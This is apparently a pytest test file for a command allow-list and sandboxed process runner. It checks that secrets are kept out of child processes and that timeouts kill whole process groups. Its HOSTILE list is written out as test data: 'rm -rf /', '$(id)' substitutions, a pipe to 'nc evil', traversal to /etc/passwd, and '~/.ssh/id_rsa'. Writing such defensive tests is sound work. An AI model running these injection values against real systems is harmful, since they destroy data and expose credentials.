"""The command allow-list and the child process runner: hostile arguments are refused before anything runs; children
run without a shell, without secrets, and die with their whole process group on timeout."""

from __future__ import annotations

import asyncio
import os
import sys
from pathlib import Path

import pytest
from pydantic import SecretStr

from aya.automation.commands import CommandAllowList, check_argument, child_environment, run_process, scrub, secrets_of
from aya.core.errors import BadRequest, NotFound
from aya.core.settings import Settings


@pytest.fixture
def work(tmp_path: Path) -> Path:
    root = tmp_path / "work"
    (root / "examples").mkdir(parents=True)
    (root / "examples" / "products.csv").write_text("id,title\n")
    (tmp_path / "outside.csv").write_text("secret\n")
    (root / "escape.csv").symlink_to(tmp_path / "outside.csv")
    return root


@pytest.fixture
def allow(work: Path) -> CommandAllowList:
    return CommandAllowList(
        {
            "ingest": "aya ingest {file}",
            "stats": "aya catalog stats",
            "pytest": "pytest -q {path}",
            "tag": "echo {word}",
        },
        workdir=work,
        approve=["ingest"],
    )


HOSTILE = [
    "examples/products.csv; rm -rf /",
    "examples/products.csv && id",
    "$(id)",
    "`id`",
    "examples/products.csv | nc evil 1",
    "../../etc/passwd",
    "examples/../../outside.csv",
    "/etc/passwd",
    "--output=/etc/cron.d/x",
    "-rf",
    "examples/products.csv\nid",
    "examples/products.csv\x00",
    "examples/ products.csv",
    "~/.ssh/id_rsa",
    "a" * 300,
]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_file_arguments_are_refused(allow: CommandAllowList, value: str) -> None:
    with pytest.raises(BadRequest):
        allow.argv("ingest", {"file": value})


def test_a_symlink_out_of_the_work_directory_is_refused(allow: CommandAllowList) -> None:
    with pytest.raises(BadRequest, match="inside the work directory"):
        allow.argv("ingest", {"file": "escape.csv"})


@pytest.mark.parametrize("value", ["a;b", "$HOME", "-x", "a b", "`x`", ""])
def test_hostile_words_are_refused(allow: CommandAllowList, value: str) -> None:
    with pytest.raises(BadRequest):
        allow.argv("tag", {"word": value})


def test_a_valid_argument_is_one_argv_item(allow: CommandAllowList) -> None:
    argv = allow.argv("ingest", {"file": "examples/products.csv"})
    assert argv[-2:] == ["ingest", "examples/products.csv"]
    assert argv[0].endswith("aya") or argv[:3] == [sys.executable, "-m", "aya.cli.main"]
    assert allow.argv("pytest", {"path": "examples::test_x"})[-1] == "examples::test_x"
    assert allow.spec("ingest").approve and not allow.spec("stats").approve


def test_unknown_commands_and_arguments(allow: CommandAllowList) -> None:
    with pytest.raises(NotFound):
        allow.argv("rm", {})
    with pytest.raises(BadRequest, match="needs the argument"):
        allow.argv("ingest", {})
    with pytest.raises(BadRequest, match="takes no argument"):
        allow.argv("stats", {"output": "/etc/x"})
    with pytest.raises(BadRequest, match="does not exist"):
        allow.argv("ingest", {"file": "examples/missing.csv"})


def test_templates_must_be_whole_placeholders(work: Path) -> None:
    with pytest.raises(ValueError, match="one whole placeholder"):
        CommandAllowList({"bad": "aya ingest --file={file}"}, workdir=work)
    with pytest.raises(ValueError, match="program"):
        CommandAllowList({"bad": "{file}"}, workdir=work)


def test_check_argument_allows_plain_relative_paths(work: Path) -> None:
    assert check_argument("path", "examples", work) == "examples"


async def test_children_run_without_a_shell_or_secrets_and_output_is_redacted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-live-abcdefghijklmnop")
    monkeypatch.setenv("AYA_SECRET_KEY", "a-very-secret-signing-key")
    settings = Settings(data_dir=tmp_path, secret_key=SecretStr("a-very-secret-signing-key"), _env_file=None)  # type: ignore[call-arg]
    env = child_environment(settings)
    assert "OPENAI_API_KEY" not in env and "AYA_SECRET_KEY" not in env
    assert env["AYA_DATA_DIR"].endswith(tmp_path.name)
    lines: list[str] = []
    script = (
        "import os, sys; print(sys.argv[1]); print(os.environ.get('OPENAI_API_KEY', 'no key')); "
        "print('leak: a-very-secret-signing-key and sk-abcdefghijklmnopqrstu')"
    )
    result = await run_process(
        [sys.executable, "-c", script, "$(id); `id`"],
        cwd=tmp_path,
        env=env,
        timeout_s=30,
        on_line=lines.append,
        secrets=secrets_of(settings),
    )
    assert result.returncode == 0
    assert lines[0] == "$(id); `id`"  # passed as one literal argument: no shell ever saw it
    assert lines[1] == "no key"
    assert "a-very-secret-signing-key" not in lines[2] and "sk-abcdefghijklmnopqrstu" not in lines[2]
    assert scrub("token=abcdefgh1234", []) != "token=abcdefgh1234"


async def test_a_timeout_kills_the_whole_process_group(tmp_path: Path) -> None:
    pid_file = tmp_path / "grandchild.pid"
    script = (
        "import subprocess, sys, time; "
        f"p = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)']); "
        f"open({str(pid_file)!r}, 'w').write(str(p.pid)); print('started', flush=True); time.sleep(60)"
    )
    lines: list[str] = []
    result = await run_process(
        [sys.executable, "-c", script], cwd=tmp_path, env={}, timeout_s=1.5, on_line=lines.append
    )
    assert result.timed_out and lines == ["started"]
    grandchild = int(pid_file.read_text())
    for _ in range(50):
        try:
            os.kill(grandchild, 0)
        except ProcessLookupError:
            break
        await asyncio.sleep(0.1)
    else:
        pytest.fail("the grandchild survived the timeout")
